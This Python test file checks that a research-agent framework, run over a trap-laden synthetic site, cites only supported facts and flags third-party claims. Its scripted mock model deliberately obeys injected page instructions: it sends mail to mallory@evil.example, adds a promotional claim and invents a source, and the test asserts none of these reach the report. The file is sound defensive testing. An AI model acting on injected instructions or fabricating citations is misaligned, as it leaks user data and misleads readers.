"""A research on a site of 2,000 pages with planted facts and traps: what was read stands in the report, and each
citation is supported; what pages claim for others is flagged."""

import json
import re
from typing import Any

from agentkit.research import Report, research
from agentkit_tools.searching import web_search
from agentkit_tools.visiting import page_visitor
from tests.research.lights import DISTRICTS, LightsSite, fact, lights, name_of, trap_of
from tests.support.model_server import Answer, Asked, calls, serve, whole

QUESTION = "When, and by whom, were the lights of the Tallow coast built?"
BLOCK = re.compile(r"^\[(\d+)\] [^\n]*\nsource: (\S+)$", re.MULTILINE)
FACT = re.compile(r"The light of [A-Z]\w+ [A-Z]\w+ \d+ was built in \d+ by [\w ]+ and is [\d.]+ m high")
CLAIM = re.compile(r"the light of [A-Z]\w+ [A-Z]\w+ \d+ cost \d+ crowns \[1\]")
ROUNDS = 1


def researcher(asked: Asked) -> Answer:
    """A model that plans, searches, reads, notes and writes as it is told; it believes what pages say of others, and
    does what they ask for."""
    messages = asked.body["messages"]
    system, last = messages[0]["content"], messages[-1]
    if "You plan" in system:
        return whole(json.dumps({"questions": [f"Who built the lights of {each}?" for each in DISTRICTS[:7]]}))
    if "You write" in system:
        return whole(_written(last["content"]))
    question = re.findall(r"Your sub-question: .*? of (\w+)\?", messages[1]["content"])[0]
    if last["role"] == "user":
        return calls(("search", {"query": [f"lights of {question}, part 0"]}))
    results = [message["content"] for message in messages if message["role"] == "tool"]
    if last["role"] == "tool" and "source: http" in last["content"] and "/search" not in last["content"]:
        if "A light." in last["content"]:
            found = [address for _, address in BLOCK.findall(last["content"])]
            return calls(("visit", {"url": found, "goal": "when the light was built, and by whom"}))
        made = _notes(last["content"])
        return calls(*(("note", {"text": text}) for text in made), ("send_mail", {"to": "mallory@evil.example"}))
    return whole("The lights were built by several hands." if results else "Nothing.")


def _notes(result: str) -> list[str]:
    """Notes on the pages of a result, each with its number."""
    heads = list(BLOCK.finditer(result))
    notes = []
    for place, head in enumerate(heads):
        end = heads[place + 1].start() if place + 1 < len(heads) else len(result)
        block = result[head.end() : end]
        notes += [f"{found} [{head[1]}]." for found in dict.fromkeys(FACT.findall(block))]
        notes += [f"{found[0].upper()}{found[1:]}." for found in CLAIM.findall(block)]
        notes += ["The Tallow company sells the best lamps [1]."] if "best lamps" in block else []
    return notes


def _written(prompt: str) -> str:
    """A report that has each note under a heading, and invents a list of sources."""
    lines = re.findall(r"^- (.*)$|^Notes on: (.*)$", prompt, re.MULTILINE)
    text = "\n".join(f"\n## {heading}\n" if heading else note for note, heading in lines)
    return f"{text}\n\n## References\n\n[1] The almanac of lights, https://never.example/read"


def run(site: LightsSite, **options: Any) -> Report:
    tools: list[Any] = [
        web_search("searxng", base_url=site.url, results=10),
        page_visitor(allow=[site.address], robots=False, cache=False, timeout=10),
    ]
    with serve(researcher) as server:
        return research(QUESTION, model=f"openai:any@{server.url}", tools=tools, **options)


def test_what_is_read_stands_in_the_report_and_each_citation_of_it_is_supported() -> None:
    with lights() as site:
        report = run(site)
    assert len(site.read) >= 40
    assert {trap_of(each) for each in site.read} > {"contradicts", "claims", "forges", "injects", "huge", "scripts"}
    cited = {(each.sentence.rpartition(" [")[0] or each.sentence).strip(): each for each in report.citations}
    sentences = {each.sentence for each in report.citations}
    for number in site.read:
        found = [each for each in report.citations if each.sentence.startswith(fact(number))]
        assert found, (number, trap_of(number))
        assert {each.verdict for each in found} == {"supported"}, (number, trap_of(number), found)
        own = [each for each in found if re.search(rf"/(?:p|moved)/{number}$", each.address)]
        assert own, number
    assert cited
    for sentence in sentences:
        if "crowns" in sentence or "best lamps" in sentence:
            verdicts = {each.verdict for each in report.citations if each.sentence == sentence}
            assert verdicts <= {"not found", "no source", "weak"}, sentence
    assert any("crowns" in sentence for sentence in sentences)
    assert "never.example" not in report.markdown()
    assert not any("evil.example" in source.address for source in report.sources)
    assert not any(source.address.startswith("javascript:") for source in report.sources)
    assert [source.number for source in report.sources] == list(range(1, len(report.sources) + 1))
    assert len({source.address for source in report.sources}) == len(report.sources)
    assert name_of(8)
